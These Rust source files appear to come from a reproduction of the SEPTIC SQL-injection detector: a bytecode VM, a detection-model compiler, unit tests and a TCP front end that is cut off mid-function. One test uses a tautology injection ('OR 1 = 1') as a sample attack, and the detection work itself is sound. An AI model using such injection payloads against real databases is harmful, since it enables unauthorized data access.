    /// Interns a pre-lowercased payload text and returns its pool index.
    pub fn text(&mut self, s: &str) -> u32 {
        intern(&mut self.texts, s)
    }

    /// Adds a non-text payload to the data pool.
    pub fn data(&mut self, d: ItemData) -> u32 {
        if let Some(i) = self.datas.iter().position(|x| x == &d) {
            return i as u32;
        }
        self.datas.push(d);
        (self.datas.len() - 1) as u32
    }

    /// Reserves the next runtime constant slot.
    pub fn slot(&mut self) -> u32 {
        let i = self.slots;
        self.slots += 1;
        i
    }

    /// Freezes the builder into an immutable, shareable [`Program`].
    #[must_use]
    pub fn finish(self) -> Program {
        Program {
            ops: Arc::new(self.ops),
            names: self.names.into_boxed_slice(),
            texts: self.texts.into_boxed_slice(),
            datas: self.datas.into_boxed_slice(),
            slots: self.slots,
        }
    }
}

/// Linear-scan interning: pools are small (a handful of names per
/// program), so a scan beats a hash map here.
fn intern(pool: &mut Vec<Box<str>>, s: &str) -> u32 {
    if let Some(i) = pool.iter().position(|x| x.as_ref() == s) {
        return i as u32;
    }
    pool.push(s.into());
    (pool.len() - 1) as u32
}
