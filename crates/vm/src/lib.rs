//! # septic-vm
//!
//! A compile-once/execute-many bytecode VM for the two hot loops of the
//! SEPTIC reproduction:
//!
//! * **Detection** — a learned query model compiles (at train/load
//!   time) into a flat comparison [`Program`]; `Septic::inspect()` then
//!   runs [`run_model`] per query instead of re-walking the QS/QM node
//!   stacks.
//! * **Execution** — dbms WHERE/projection expressions compile (once
//!   per statement shape) into stack programs that a reusable [`Vm`]
//!   evaluates per row instead of recursing over the AST.
//!
//! A [`Program`] is immutable — a shared `Arc<Vec<Op>>` instruction
//! vector plus constant pools — so caching it next to a model (or in
//! the dbms statement-shape cache) costs a refcount bump per lookup.
//! The [`Vm`] holds one reusable operand stack: after warmup a run
//! performs no allocation of its own. All SQL value semantics (MySQL
//! coercions, three-valued logic, scalar functions) stay behind the
//! [`Host`] trait, implemented by the dbms on the same helpers its
//! interpreted walker uses — the walker remains available as the
//! differential oracle, and the two paths cannot drift semantically.

pub mod detect;
pub mod ops;
pub mod program;
pub mod vm;

pub use detect::{compile_model, run_model, Verdict};
pub use ops::Op;
pub use program::{Program, ProgramBuilder};
pub use vm::{Host, Vm};

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse, Item, ItemData, ItemStack};
    use std::cmp::Ordering;

    fn qs(sql: &str) -> ItemStack {
        items::lower_all(&parse(sql).expect("parse").statements)
    }

    fn blank(stack: &ItemStack) -> Vec<Item> {
        stack
            .items()
            .iter()
            .map(|item| {
                if item.tag.is_data() {
                    Item {
                        tag: item.tag,
                        data: ItemData::Bot,
                    }
                } else {
                    item.clone()
                }
            })
            .collect()
    }

    #[test]
    fn structure_matches_its_own_model() {
        let stack = qs("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234");
        let program = compile_model(&blank(&stack));
        assert_eq!(run_model(&program, stack.items()), Verdict::Clean);
    }

    #[test]
    fn data_variation_stays_clean_but_structure_change_is_caught() {
        let trained = qs("SELECT * FROM t WHERE a = 'x'");
        let program = compile_model(&blank(&trained));
        // Same shape, different datum: clean.
        let same = qs("SELECT * FROM t WHERE a = 'completely-different'");
        assert_eq!(run_model(&program, same.items()), Verdict::Clean);
        // Tautology appended: extra nodes, structural verdict.
        let attack = qs("SELECT * FROM t WHERE a = 'x' OR 1 = 1");
        let expected = trained.items().len();
        let observed = attack.items().len();
        assert_eq!(
            run_model(&program, attack.items()),
            Verdict::Structural { expected, observed }
        );
    }

    #[test]
    fn mimicry_reports_first_mismatching_node() {
        let trained = qs("SELECT * FROM t WHERE a = 1");
        let program = compile_model(&blank(&trained));
        // Same node count, but the data node type changed (1 → 'x').
        let morphed = qs("SELECT * FROM t WHERE a = 'x'");
        assert_eq!(trained.items().len(), morphed.items().len());
        let verdict = run_model(&program, morphed.items());
        let Verdict::Mimicry { index } = verdict else {
            panic!("expected mimicry, got {verdict:?}");
        };
        assert_ne!(trained.items()[index].tag, morphed.items()[index].tag);
    }

    #[test]
    fn element_match_is_ascii_case_insensitive() {
        let trained = qs("SELECT * FROM Tickets WHERE CreditCard = 1");
        let program = compile_model(&blank(&trained));
        let other_case = qs("select * from TICKETS where creditcard = 2");
        assert_eq!(run_model(&program, other_case.items()), Verdict::Clean);
    }

    /// A minimal integer host: enough to exercise the stack machinery
    /// (jumps, CASE ops, IN-lists) without dragging in dbms semantics.
    struct IntHost {
        slots: Vec<Option<i64>>,
    }

    impl Host for IntHost {
        type Value = Option<i64>;
        type Error = String;

        fn slot(&self, idx: u32) -> Option<i64> {
            self.slots.get(idx as usize).copied().flatten()
        }
        fn column(&self, _b: u16, _c: u16) -> Option<i64> {
            None
        }
        fn missing_column(&mut self, name: &str) -> String {
            format!("unknown column {name}")
        }
        fn unary(&mut self, _code: u16, v: Option<i64>) -> Result<Option<i64>, String> {
            Ok(v.map(|x| -x))
        }
        fn binary(
            &mut self,
            _code: u16,
            l: Option<i64>,
            r: Option<i64>,
        ) -> Result<Option<i64>, String> {
            match (l, r) {
                (Some(a), Some(b)) => Ok(Some(a + b)),
                _ => Ok(None),
            }
        }
        fn call(&mut self, name: &str, args: &[Option<i64>]) -> Result<Option<i64>, String> {
            match name {
                "SUM2" => self.binary(0, args[0], args[1]),
                other => Err(format!("no function {other}")),
            }
        }
        fn is_truthy(&self, v: &Option<i64>) -> bool {
            matches!(v, Some(x) if *x != 0)
        }
        fn is_null(&self, v: &Option<i64>) -> bool {
            v.is_none()
        }
        fn case_eq(&self, a: &Option<i64>, b: &Option<i64>) -> bool {
            matches!((a, b), (Some(x), Some(y)) if x == y)
        }
        fn eq_slot(&self, needle: &Option<i64>, slot: u32) -> Option<bool> {
            match (needle, self.slot(slot)) {
                (Some(a), Some(b)) => Some(*a == b),
                _ => None,
            }
        }
        fn cmp3(&self, a: &Option<i64>, b: &Option<i64>) -> Option<Ordering> {
            match (a, b) {
                (Some(x), Some(y)) => Some(x.cmp(y)),
                _ => None,
            }
        }
        fn null(&self) -> Option<i64> {
            None
        }
        fn bool_value(&self, b: bool) -> Option<i64> {
            Some(i64::from(b))
        }
    }

    #[test]
    fn expression_ops_run_on_a_reusable_stack() {
        // 1 + 2, then SUM2(3, 4) — two runs on one VM.
        let mut b = ProgramBuilder::new();
        let s0 = b.slot();
        let s1 = b.slot();
        b.emit(Op::Slot(s0));
        b.emit(Op::Slot(s1));
        b.emit(Op::Binary(0));
        let add = b.finish();

        let mut b = ProgramBuilder::new();
        let s0 = b.slot();
        let s1 = b.slot();
        let f = b.name("SUM2");
        b.emit(Op::Slot(s0));
        b.emit(Op::Slot(s1));
        b.emit(Op::Call { name: f, argc: 2 });
        let call = b.finish();

        let mut vm = Vm::new();
        let mut host = IntHost {
            slots: vec![Some(1), Some(2)],
        };
        assert_eq!(vm.run(&add, &mut host), Ok(Some(3)));
        host.slots = vec![Some(3), Some(4)];
        assert_eq!(vm.run(&call, &mut host), Ok(Some(7)));
    }

    #[test]
    fn case_compiles_to_jumps() {
        // CASE slot0 WHEN slot1 THEN slot2 ELSE slot3 END
        let mut b = ProgramBuilder::new();
        let (op, when, then, els) = (b.slot(), b.slot(), b.slot(), b.slot());
        b.emit(Op::Slot(op));
        b.emit(Op::Dup);
        b.emit(Op::Slot(when));
        let miss = b.emit(Op::JumpIfCaseNe(0));
        b.emit(Op::Pop);
        b.emit(Op::Slot(then));
        let done = b.emit(Op::Jump(0));
        b.patch_jump(miss);
        b.emit(Op::Pop);
        b.emit(Op::Slot(els));
        b.patch_jump(done);
        let program = b.finish();

        let mut vm = Vm::new();
        let mut hit = IntHost {
            slots: vec![Some(5), Some(5), Some(10), Some(20)],
        };
        assert_eq!(vm.run(&program, &mut hit), Ok(Some(10)));
        let mut miss = IntHost {
            slots: vec![Some(5), Some(6), Some(10), Some(20)],
        };
        assert_eq!(vm.run(&program, &mut miss), Ok(Some(20)));
    }

    #[test]
    fn in_list_has_three_valued_semantics() {
        // slot0 IN (slot1, slot2)
        let mut b = ProgramBuilder::new();
        let needle = b.slot();
        let start = b.slot();
        let _ = b.slot();
        b.emit(Op::Slot(needle));
        b.emit(Op::InListSlots {
            start,
            count: 2,
            negated: false,
        });
        let program = b.finish();

        let mut vm = Vm::new();
        let run = |vm: &mut Vm<Option<i64>>, slots: Vec<Option<i64>>| {
            vm.run(&program, &mut IntHost { slots }).unwrap()
        };
        assert_eq!(run(&mut vm, vec![Some(2), Some(1), Some(2)]), Some(1));
        assert_eq!(run(&mut vm, vec![Some(9), Some(1), Some(2)]), Some(0));
        // NULL member and no hit → NULL; NULL needle → NULL.
        assert_eq!(run(&mut vm, vec![Some(9), None, Some(2)]), None);
        assert_eq!(run(&mut vm, vec![None, Some(1), Some(2)]), None);
    }

    #[test]
    fn missing_column_raises_the_host_error() {
        let mut b = ProgramBuilder::new();
        let n = b.name("ghost");
        b.emit(Op::MissingColumn(n));
        let program = b.finish();
        let mut vm = Vm::new();
        let mut host = IntHost { slots: vec![] };
        assert_eq!(
            vm.run(&program, &mut host),
            Err("unknown column ghost".into())
        );
    }
}
