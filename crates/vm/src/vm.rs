//! The reusable stack machine for expression programs.
//!
//! The VM is deliberately ignorant of SQL value semantics: every
//! type-coercing operation is delegated to a [`Host`], which the dbms
//! implements on top of its own `Value` type. The VM contributes what
//! the recursive walker cannot: a flat dispatch loop, an explicit
//! operand stack reused across rows (no per-run allocation after
//! warmup), and compile-time-resolved column indices.

use std::cmp::Ordering;

use crate::ops::Op;
use crate::program::Program;

/// Value semantics provider for expression programs. All coercion rules
/// live behind this trait so the VM and the interpreted walker share one
/// implementation — the differential oracle then only exercises the
/// *dispatch* difference, never divergent semantics.
pub trait Host {
    /// The runtime value type (the dbms `Value`).
    type Value: Clone;
    /// The runtime error type (the dbms `DbError`).
    type Error;

    /// The literal value bound to runtime constant slot `idx`.
    fn slot(&self, idx: u32) -> Self::Value;
    /// The current row's cell at (binding, column).
    fn column(&self, binding: u16, column: u16) -> Self::Value;
    /// The error for a column that failed to resolve at compile time.
    fn missing_column(&mut self, name: &str) -> Self::Error;
    /// Apply unary op `code`.
    fn unary(&mut self, code: u16, v: Self::Value) -> Result<Self::Value, Self::Error>;
    /// Apply binary op `code`.
    fn binary(
        &mut self,
        code: u16,
        left: Self::Value,
        right: Self::Value,
    ) -> Result<Self::Value, Self::Error>;
    /// Call scalar function `name` with `args`.
    fn call(&mut self, name: &str, args: &[Self::Value]) -> Result<Self::Value, Self::Error>;
    /// SQL truthiness of `v`.
    fn is_truthy(&self, v: &Self::Value) -> bool;
    /// True when `v` is SQL NULL.
    fn is_null(&self, v: &Self::Value) -> bool;
    /// CASE operand equality: `sql_eq == Some(true)`.
    fn case_eq(&self, operand: &Self::Value, when: &Self::Value) -> bool;
    /// Three-valued equality of the needle against constant slot `slot`
    /// (IN-list membership without cloning the slot value).
    fn eq_slot(&self, needle: &Self::Value, slot: u32) -> Option<bool>;
    /// Three-valued SQL comparison.
    fn cmp3(&self, a: &Self::Value, b: &Self::Value) -> Option<Ordering>;
    /// SQL NULL.
    fn null(&self) -> Self::Value;
    /// SQL boolean (MySQL booleans are integers 0/1).
    fn bool_value(&self, b: bool) -> Self::Value;
}

/// A reusable stack machine. Create once per statement (or thread) and
/// `run` per row: the operand stack's capacity persists across runs, so
/// steady-state evaluation does not allocate.
#[derive(Debug, Default)]
pub struct Vm<V> {
    stack: Vec<V>,
}

impl<V: Clone> Vm<V> {
    /// A VM with an empty (lazily grown) operand stack.
    #[must_use]
    pub fn new() -> Self {
        Vm { stack: Vec::new() }
    }

    fn pop<H: Host<Value = V>>(&mut self, host: &H) -> V {
        debug_assert!(!self.stack.is_empty(), "operand stack underflow");
        self.stack.pop().unwrap_or_else(|| host.null())
    }

    /// Runs an expression program to completion and returns the value
    /// left on top of the stack.
    ///
    /// # Errors
    /// Propagates the host's runtime errors (unknown column, bad
    /// function call, …) exactly as the interpreted walker would.
    pub fn run<H: Host<Value = V>>(
        &mut self,
        program: &Program,
        host: &mut H,
    ) -> Result<V, H::Error> {
        self.stack.clear();
        let ops = program.ops();
        let mut pc = 0usize;
        while let Some(op) = ops.get(pc) {
            pc += 1;
            match op {
                Op::Slot(i) => self.stack.push(host.slot(*i)),
                Op::Column { binding, column } => self.stack.push(host.column(*binding, *column)),
                Op::MissingColumn(n) => return Err(host.missing_column(program.name(*n))),
                Op::Unary(code) => {
                    let v = self.pop(host);
                    let r = host.unary(*code, v)?;
                    self.stack.push(r);
                }
                Op::Binary(code) => {
                    let right = self.pop(host);
                    let left = self.pop(host);
                    let r = host.binary(*code, left, right)?;
                    self.stack.push(r);
                }
                Op::IsNull { negated } => {
                    let v = self.pop(host);
                    let b = host.is_null(&v) != *negated;
                    self.stack.push(host.bool_value(b));
                }
                Op::Between { negated } => {
                    let high = self.pop(host);
                    let low = self.pop(host);
                    let v = self.pop(host);
                    let out = match (host.cmp3(&v, &low), host.cmp3(&v, &high)) {
                        (Some(a), Some(b)) => {
                            let within = a != Ordering::Less && b != Ordering::Greater;
                            host.bool_value(within != *negated)
                        }
                        _ => host.null(),
                    };
                    self.stack.push(out);
                }
                Op::InListSlots {
                    start,
                    count,
                    negated,
                } => {
                    let needle = self.pop(host);
                    let out = if host.is_null(&needle) {
                        host.null()
                    } else {
                        let mut hit = false;
                        let mut saw_null = false;
                        for i in 0..u32::from(*count) {
                            match host.eq_slot(&needle, start + i) {
                                Some(true) => {
                                    hit = true;
                                    break;
                                }
                                Some(false) => {}
                                None => saw_null = true,
                            }
                        }
                        if hit {
                            host.bool_value(!*negated)
                        } else if saw_null {
                            host.null()
                        } else {
                            host.bool_value(*negated)
                        }
                    };
                    self.stack.push(out);
                }
                Op::Call { name, argc } => {
                    let split = self.stack.len().saturating_sub(usize::from(*argc));
                    let result = host.call(program.name(*name), &self.stack[split..])?;
                    self.stack.truncate(split);
                    self.stack.push(result);
                }
                Op::Dup => {
                    let v = self.stack.last().cloned().unwrap_or_else(|| host.null());
                    self.stack.push(v);
                }
                Op::Pop => {
                    self.stack.pop();
                }
                Op::Jump(t) => pc = *t as usize,
                Op::JumpIfNotTruthy(t) => {
                    let v = self.pop(host);
                    if !host.is_truthy(&v) {
                        pc = *t as usize;
                    }
                }
                Op::JumpIfCaseNe(t) => {
                    let when = self.pop(host);
                    let operand = self.pop(host);
                    if !host.case_eq(&operand, &when) {
                        pc = *t as usize;
                    }
                }
                Op::PushNull => self.stack.push(host.null()),
                Op::CheckLen(_) | Op::MatchTag(_) | Op::MatchText { .. } | Op::MatchData { .. } => {
                    debug_assert!(false, "match op {op:?} in expression program");
                }
            }
        }
        Ok(self.stack.pop().unwrap_or_else(|| host.null()))
    }
}
