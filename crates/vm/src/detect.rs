//! Compiling a learned query model into a comparison program, and the
//! tight loop that runs it against an incoming query structure.
//!
//! SEPTIC's detection walks two node stacks per query: step 1 compares
//! the structure lengths, step 2 compares node by node. The walker
//! re-decides per node what kind of comparison applies (data node? text
//! payload? exotic payload?). Compilation hoists those decisions to
//! train/load time: each model node lowers to exactly one match op with
//! its comparison mode and (pre-lowercased) expected payload baked in,
//! so the per-query scan is a straight run over a flat op vector.

use septic_sql::{Item, ItemData};

use crate::ops::Op;
use crate::program::{Program, ProgramBuilder};

/// Outcome of running a detection program. The VM reports positions
/// only; the caller renders the human-readable node strings from the
/// model and structure it already holds (keeping this crate free of
/// detector types — and the rendering off the hot path).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The structure matches the model.
    Clean,
    /// Step 1 failed: node counts differ.
    Structural {
        /// Node count the model expects.
        expected: usize,
        /// Node count observed in the query.
        observed: usize,
    },
    /// Step 2 failed: the node at `index` (bottom-up) does not match.
    Mimicry {
        /// Bottom-up index of the first mismatching node.
        index: usize,
    },
}

/// Compiles a query model's (bottom-up) node list into a comparison
/// program: one `CheckLen` followed by one match op per node.
#[must_use]
pub fn compile_model(items: &[Item]) -> Program {
    let mut b = ProgramBuilder::new();
    b.emit(Op::CheckLen(items.len() as u32));
    for item in items {
        if item.tag.is_data() {
            // Data payloads are ⊥ in the model: the tag alone decides.
            b.emit(Op::MatchTag(item.tag));
        } else {
            match &item.data {
                ItemData::Text(s) => {
                    let text = b.text(&s.to_ascii_lowercase());
                    b.emit(Op::MatchText {
                        tag: item.tag,
                        text,
                    });
                }
                other => {
                    let data = b.data(other.clone());
                    b.emit(Op::MatchData {
                        tag: item.tag,
                        data,
                    });
                }
            }
        }
    }
    b.finish()
}

/// Runs a compiled detection program against an observed (bottom-up)
/// query structure. No recursion, no allocation — and, after the
/// `CheckLen` prefix is consumed, a straight bounds-check-free zip of
/// match ops over query nodes.
#[inline]
#[must_use]
pub fn run_model(program: &Program, qs: &[Item]) -> Verdict {
    let mut ops = program.ops();
    // The compiler emits exactly one leading CheckLen; consuming the
    // prefix here keeps the node loop below a plain ops×items zip.
    while let Some(Op::CheckLen(n)) = ops.first() {
        let expected = *n as usize;
        if qs.len() != expected {
            return Verdict::Structural {
                expected,
                observed: qs.len(),
            };
        }
        ops = &ops[1..];
    }
    // Unreachable for well-formed programs (CheckLen passed), but a
    // malformed one must degrade, not panic or silently under-compare.
    if ops.len() > qs.len() {
        return Verdict::Structural {
            expected: ops.len(),
            observed: qs.len(),
        };
    }
    for (index, (op, q)) in ops.iter().zip(qs).enumerate() {
        let matched = match op {
            Op::MatchTag(tag) => q.tag == *tag,
            Op::MatchText { tag, text } => {
                q.tag == *tag
                    && matches!(&q.data,
                        ItemData::Text(b) if program.text(*text).eq_ignore_ascii_case(b))
            }
            Op::MatchData { tag, data } => q.tag == *tag && &q.data == program.data(*data),
            other => {
                debug_assert!(false, "value op {other:?} in detection program");
                true
            }
        };
        if !matched {
            return Verdict::Mimicry { index };
        }
    }
    Verdict::Clean
}
