//! The flat opcode set.
//!
//! One instruction enum serves both program families: *expression
//! programs* (compiled from dbms WHERE/projection ASTs, run per row
//! against an operand stack) and *detection programs* (compiled from a
//! learned query model, run per query as a linear scan over the query
//! structure). Keeping them in one `Op` keeps the pipeline uniform — a
//! program is always `Arc<Vec<Op>>` plus a constant pool, whatever it
//! computes.

use septic_sql::ItemTag;

/// One instruction. Jump targets are absolute op indices.
#[derive(Debug, Clone, PartialEq)]
pub enum Op {
    // ── value ops (expression programs) ──────────────────────────────
    /// Push runtime constant slot `n`. Slots carry the literal values of
    /// the *current* statement: the program itself only knows the shape,
    /// so one compiled program serves every statement with that shape.
    Slot(u32),
    /// Push the current row's cell at (binding, column). Both indices
    /// were resolved at compile time — no per-row name lookup.
    Column { binding: u16, column: u16 },
    /// Raise the host's unknown-column error for name-pool entry `n`:
    /// the column did not resolve at compile time, and the interpreted
    /// walker would fail with the same error at runtime.
    MissingColumn(u32),
    /// Pop one value, apply the host-defined unary op `code`, push.
    Unary(u16),
    /// Pop right then left, apply the host-defined binary op `code`,
    /// push. MySQL's AND/OR/XOR evaluate both sides (no short-circuit),
    /// so logical connectives compile to plain binary ops too.
    Binary(u16),
    /// Pop one value, push `v IS [NOT] NULL` as a host boolean.
    IsNull { negated: bool },
    /// Pop high, low, then the needle; push the three-valued result of
    /// `needle [NOT] BETWEEN low AND high`.
    Between { negated: bool },
    /// Pop the needle and test it against constant slots
    /// `start..start + count` with SQL `IN` semantics (NULL needle →
    /// NULL; any NULL member without a hit → NULL).
    InListSlots {
        start: u32,
        count: u16,
        negated: bool,
    },
    /// Pop `argc` arguments (pushed left to right) and call the scalar
    /// function at name-pool entry `name`.
    Call { name: u32, argc: u16 },
    /// Duplicate the top of stack (CASE operand reuse).
    Dup,
    /// Drop the top of stack.
    Pop,
    /// Unconditional jump.
    Jump(u32),
    /// Pop one value; jump when it is not truthy (searched CASE).
    JumpIfNotTruthy(u32),
    /// Pop the WHEN value and the duplicated CASE operand beneath it;
    /// jump unless they compare equal under `sql_eq` (operand CASE).
    JumpIfCaseNe(u32),
    /// Push SQL NULL (the implicit ELSE of a CASE).
    PushNull,

    // ── match ops (detection programs) ───────────────────────────────
    /// Structural check: fail unless the observed query structure has
    /// exactly `n` nodes (SEPTIC's step-1 comparison).
    CheckLen(u32),
    /// Syntactical check: the node under the cursor must carry this tag.
    /// Used for data nodes, whose payload the model blanked to ⊥.
    MatchTag(ItemTag),
    /// The node under the cursor must carry this tag and a text payload
    /// equal, ASCII-case-insensitively, to text-pool entry `text`
    /// (pre-lowercased at compile time).
    MatchText { tag: ItemTag, text: u32 },
    /// The node under the cursor must carry this tag and a payload equal
    /// to data-pool entry `data` (non-text element payloads).
    MatchData { tag: ItemTag, data: u32 },
}
