//! The blocking TCP front end: accept loop + bounded worker pool.
//!
//! # Admission control
//!
//! The server never queues work unboundedly. Accepted sockets go into a
//! bounded hand-off queue; when the queue is full (every worker busy and
//! the backlog at capacity) the connection is *rejected immediately*
//! with a [`Response::ServerBusy`] frame and closed — load sheds at the
//! edge instead of building an invisible latency mountain. Per
//! connection, a `Batch` frame longer than the pipelining limit is
//! likewise refused with `ServerBusy` rather than executed.
//!
//! # Failure containment
//!
//! Each connection is served under `catch_unwind`: a panicking handler
//! (or a bug in response encoding) kills *that connection only* — the
//! worker survives, the listener keeps accepting, and the
//! active-connection gauge is restored by a drop guard no matter how the
//! handler exits. This extends the PR-1 failure policy to the wire: the
//! dbms `Server` already contains guard panics; the net layer contains
//! its own.
//!
//! # Slow peers
//!
//! Reads carry a timeout. A peer that sends half a frame header and
//! stalls (slowloris) holds a worker for at most `read_timeout`, then
//! the read errors, the connection is closed and the worker moves on.

use std::collections::VecDeque;
use std::io;
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use septic_dbms::Server;
use septic_telemetry::{saturating_micros, Counter, Histogram};

use crate::frame::{
    read_frame, write_frame, FrameError, QueryRequest, Request, Response, DEFAULT_MAX_FRAME_LEN,
    PROTOCOL_VERSION,
};

/// Configuration of the TCP front end.
#[derive(Debug, Clone)]
pub struct NetServerConfig {
    /// Worker threads serving connections (each worker serves one
    /// connection at a time, session-per-thread like the in-process
    /// front end).
    pub workers: usize,
    /// Accepted connections allowed to wait for a free worker. Beyond
    /// this the accept loop sheds load with a `ServerBusy` frame.
    pub accept_queue: usize,
    /// Maximum payload bytes of a single frame, both directions.
    pub max_frame_len: u32,
    /// Maximum queries in one `Batch` frame (per-connection pipelining
    /// limit).
    pub max_pipeline: usize,
    /// Read timeout per frame: the slowloris defense and the idle
    /// connection reaper in one knob.
    pub read_timeout: Duration,
    /// Fault-injection hook (used by `septic-faults` and the wire
    /// tests): a query whose SQL contains this marker makes the
    /// connection handler panic *outside* the dbms pipeline, exercising
    /// the net layer's own containment. `None` in production.
    pub panic_marker: Option<String>,
    /// Event-loop front end only: reactor shards polling readiness.
    /// `0` means one per available core. The blocking front end ignores
    /// this.
    pub reactors: usize,
    /// Event-loop front end only: concurrent connections admitted
    /// before new arrivals are shed with `ServerBusy`. The blocking
    /// front end bounds concurrency by `workers + accept_queue`
    /// instead.
    pub max_connections: usize,
}

impl Default for NetServerConfig {
    fn default() -> Self {
        NetServerConfig {
            workers: 4,
            accept_queue: 16,
            max_frame_len: DEFAULT_MAX_FRAME_LEN,
            max_pipeline: 32,
            read_timeout: Duration::from_secs(10),
            panic_marker: None,
            reactors: 0,
            max_connections: 2048,
        }
    }
}

/// Wire-layer metrics, registered in the dbms server's own
/// [`septic_telemetry::MetricsRegistry`] so they ride the existing
/// Prometheus export and `SHOW SEPTIC METRICS`. Shared by both front
/// ends — the registry get-or-creates by name, so a blocking and an
/// event-loop front end on the same dbms server count into the same
/// series.
#[derive(Debug)]
pub(crate) struct NetMetrics {
    pub(crate) accepted: Arc<Counter>,
    pub(crate) rejected_busy: Arc<Counter>,
    pub(crate) closed: Arc<Counter>,
    pub(crate) frames_read: Arc<Counter>,
    pub(crate) decode_errors: Arc<Counter>,
    pub(crate) read_timeouts: Arc<Counter>,
    pub(crate) handler_panics: Arc<Counter>,
    pub(crate) requests: Arc<Counter>,
    pub(crate) pipeline_rejects: Arc<Counter>,
    /// `accept()` failures (EMFILE and friends) — a quiet fd leak shows
    /// up here long before the listener stalls.
    pub(crate) accept_errors: Arc<Counter>,
    /// Mirror of the live gauge (`active` below) so it exports.
    pub(crate) active_gauge: Arc<Counter>,
    pub(crate) read_wait: Arc<Histogram>,
    pub(crate) handle: Arc<Histogram>,
    pub(crate) write: Arc<Histogram>,
}

impl NetMetrics {
    pub(crate) fn register(server: &Server) -> Self {
        let reg = server.metrics();
        let stage = |name: &str| {
            reg.histogram(&septic_telemetry::labeled_name(
                "net_stage_duration_microseconds",
                &[("stage", name)],
            ))
        };
        NetMetrics {
            accepted: reg.counter("net_connections_accepted_total"),
            rejected_busy: reg.counter("net_connections_rejected_total"),
            closed: reg.counter("net_connections_closed_total"),
            frames_read: reg.counter("net_frames_read_total"),
            decode_errors: reg.counter("net_frame_decode_errors_total"),
            read_timeouts: reg.counter("net_read_timeouts_total"),
            handler_panics: reg.counter("net_handler_panics_total"),
            requests: reg.counter("net_requests_total"),
            pipeline_rejects: reg.counter("net_pipeline_rejects_total"),
            accept_errors: reg.counter("net_accept_errors_total"),
            active_gauge: reg.counter("net_active_connections"),
            read_wait: stage("read_wait"),
            handle: stage("handle"),
            write: stage("write"),
        }
    }
}

/// State shared between the accept loop, the workers and the handle.
struct Shared {
    server: Arc<Server>,
    config: NetServerConfig,
    /// FIFO hand-off: workers take from the front, the accept loop
    /// pushes to the back, so under saturation the oldest queued
    /// connection is served first instead of starving behind every
    /// newer arrival.
    queue: Mutex<VecDeque<TcpStream>>,
    queue_cv: Condvar,
    shutting_down: AtomicBool,
    /// Connections queued or being served right now.
    active: AtomicU64,
    metrics: NetMetrics,
}

impl Shared {
    /// Locks the hand-off queue, shrugging off poisoning: queue state is
    /// a plain `VecDeque` that stays consistent across any panic point.
    fn lock_queue(&self) -> MutexGuard<'_, VecDeque<TcpStream>> {
        self.queue
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn set_active(&self, delta: i64) {
        let now = if delta >= 0 {
            self.active.fetch_add(delta as u64, Ordering::SeqCst) + delta as u64
        } else {
            self.active.fetch_sub((-delta) as u64, Ordering::SeqCst) - (-delta) as u64
        };
        self.metrics.active_gauge.set(now);
    }

    /// Publishes an accepted stream to the worker hand-off queue. The
    /// active gauge is incremented while the queue lock is still held:
    /// publishing the stream first and incrementing after the unlock
    /// would let a fast worker serve the connection and decrement the
    /// gauge before this increment lands, underflowing `0 - 1`.
    fn enqueue(&self, stream: TcpStream) {
        let mut queue = self.lock_queue();
        queue.push_back(stream);
        self.set_active(1);
        drop(queue);
        self.queue_cv.notify_one();
    }
}

/// Decrements the active-connection gauge on drop — panic-proof
/// accounting: however a handler exits, the connection is released.
struct ActiveGuard<'a>(&'a Shared);

impl Drop for ActiveGuard<'_> {
    fn drop(&mut self) {
        self.0.set_active(-1);
        self.0.metrics.closed.inc();
    }
}

/// A running TCP front end. Dropping the handle shuts the server down
/// and joins every thread.
pub struct NetServerHandle {
    addr: SocketAddr,
    shared: Arc<Shared>,
    accept_thread: Option<JoinHandle<()>>,
    workers: Vec<JoinHandle<()>>,
}

impl std::fmt::Debug for NetServerHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NetServerHandle")
            .field("addr", &self.addr)
            .field("active", &self.active_connections())
            .finish_non_exhaustive()
    }
}

impl NetServerHandle {
    /// The bound address (useful with port 0).
    #[must_use]
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Connections currently queued or being served.
    #[must_use]
    pub fn active_connections(&self) -> u64 {
        self.shared.active.load(Ordering::SeqCst)
    }

    /// The dbms server this front end serves.
    #[must_use]
    pub fn server(&self) -> &Arc<Server> {
        &self.shared.server
    }

    /// Threads this front end runs (accept loop + workers). Each worker
    /// serves one connection at a time, so this is also the concurrency
    /// ceiling.
    #[must_use]
    pub fn thread_count(&self) -> usize {
        self.workers.len() + usize::from(self.accept_thread.is_some())
    }

    /// Stops accepting, closes queued connections, and joins every
    /// thread. In-flight requests finish; idle kept-alive connections
    /// are closed the next time they hit the read timeout.
    pub fn shutdown(mut self) {
        self.shutdown_inner();
    }

    fn shutdown_inner(&mut self) {
        if self.shared.shutting_down.swap(true, Ordering::SeqCst) {
            return;
        }
        // Unblock the accept loop with a throwaway connection.
        let _ = TcpStream::connect(self.addr);
        self.shared.queue_cv.notify_all();
        if let Some(t) = self.accept_thread.take() {
            let _ = t.join();
        }
        self.shared.queue_cv.notify_all();
        for w in self.workers.drain(..) {
            let _ = w.join();
        }
        // Connections still queued were never served: release them.
        let mut queue = self.shared.lock_queue();
        for stream in queue.drain(..) {
            drop(stream);
            self.shared.set_active(-1);
            self.shared.metrics.closed.inc();
        }
    }
}

impl Drop for NetServerHandle {
    fn drop(&mut self) {
        self.shutdown_inner();
    }
}

/// Binds the framed TCP front end for `server` on `addr` and starts the
/// accept loop plus the worker pool.
///
/// # Errors
///
/// Propagates the bind failure.
pub fn serve(
    server: Arc<Server>,
    addr: impl ToSocketAddrs,
    config: NetServerConfig,
) -> io::Result<NetServerHandle> {
    let listener = TcpListener::bind(addr)?;
    let addr = listener.local_addr()?;
    let metrics = NetMetrics::register(&server);
    let shared = Arc::new(Shared {
        server,
        config,
        queue: Mutex::new(VecDeque::new()),
        queue_cv: Condvar::new(),
        shutting_down: AtomicBool::new(false),
        active: AtomicU64::new(0),
        metrics,
    });

    let workers = (0..shared.config.workers.max(1))
        .map(|i| {
            let shared = Arc::clone(&shared);
